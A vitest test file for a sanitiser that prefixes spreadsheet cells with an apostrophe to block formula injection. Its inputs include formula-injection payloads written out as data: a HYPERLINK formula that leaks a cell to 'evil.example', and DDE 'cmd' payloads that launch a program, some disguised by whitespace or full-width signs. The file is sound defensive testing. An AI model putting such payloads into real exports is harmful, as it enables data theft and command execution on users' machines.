import { expect, test } from 'vitest'
import { runsAsFormula, spreadsheetCell } from './spreadsheet-cell.ts'

test('phone numbers and signed numbers are written exactly as typed', () => {
	for (const phone of [
		'+91 98450 12345',
		'+919845012345',
		'+1 (555) 123-4567',
		'+44 20.7946.0958',
		'-40',
		'98450 12345',
		'(080) 2345 6789',
	])
		expect(spreadsheetCell(phone), phone).toBe(phone)
})

test('ordinary text, e-mail addresses and addresses are written as they are', () => {
	for (const text of [
		'Asha Rao',
		'asha@example.com',
		'https://shop.example.in/pricing',
		'',
		'C++ developer',
		'A-1 Tower',
	])
		expect(spreadsheetCell(text), text).toBe(text)
})

test('cells a spreadsheet would run as a formula get a leading apostrophe', () => {
	for (const formula of [
		'=HYPERLINK("https://evil.example/?"&A1, "Click")',
		'@SUM(1+1)',
		"+cmd|' /C calc'!A0",
		"-2+3+cmd|' /C calc'!A0",
		'+A1',
		'-SUM(A1:A9)',
		'\t=1+1',
		'\r=1+1',
		'  =1+1',
		' +A1',
		'+',
		'-',
		'+()',
	]) {
		expect(runsAsFormula(formula), JSON.stringify(formula)).toBe(true)
		expect(spreadsheetCell(formula)).toBe(`'${formula}`)
	}
})

test('a formula behind white space or a full-width sign counts as one (attacker trial: imported as typed)', () => {
	for (const cell of [' \t=1+1', "\n=cmd|' /C calc'!A0", '  \n @SUM(A1)', '＝SUM(1)', ' ＋cmd', '＠A1'])
		expect(runsAsFormula(cell), JSON.stringify(cell)).toBe(true)
	expect(runsAsFormula('  plain text')).toBe(false)
	expect(runsAsFormula(' ＋91 98765 43210')).toBe(false)
})
